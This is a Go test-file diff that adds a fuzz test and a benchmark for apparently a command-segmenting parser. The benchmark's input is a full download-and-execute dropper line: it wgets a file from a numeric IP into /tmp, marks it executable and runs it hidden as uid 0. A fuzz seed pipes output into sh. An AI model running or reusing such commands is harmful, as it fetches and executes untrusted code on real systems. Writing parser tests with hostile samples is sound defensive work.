@@ -103,3 +103,34 @@ func TestDocumentedExamples(t *testing.T) {
 		}
 	}
 }
+
+// FuzzCommand wants JSON of any command, and a segment of any that is not blank.
+func FuzzCommand(f *testing.F) {
+	for _, seed := range []string{"", " ", "id", "a $'\\xff' \u00c4", `"`, "printf '\\x01'|sh", "a\x00b"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, command string) {
+		payload, err := json.Marshal(map[string]string{"command_text": command})
+		if err != nil {
+			t.Fatal(err)
+		}
+		list, _ := extended(t, "command", string(payload))["segments"].([]any)
+		if blank := strings.TrimSpace(strings.ToValidUTF8(command, "\uFFFD")) == ""; (len(list) == 0) != blank {
+			t.Errorf("%q has %d segments", command, len(list))
+		}
+	})
+}
+
+func BenchmarkCommand(b *testing.B) {
+	payload := []byte(`{"command_text":"cd /tmp; wget -q \"http://198.51.100.7/a\" -O .x && chmod +x .x && ./.x > /dev/null 2>&1 &","uid":0}`)
+	members, err := match.NewScratch().AppendMembers(nil, payload)
+	if err != nil {
+		b.Fatal(err)
+	}
+	f := derive.Of("command")
+	var dst []byte
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = f(dst[:0], members)
+	}
+}
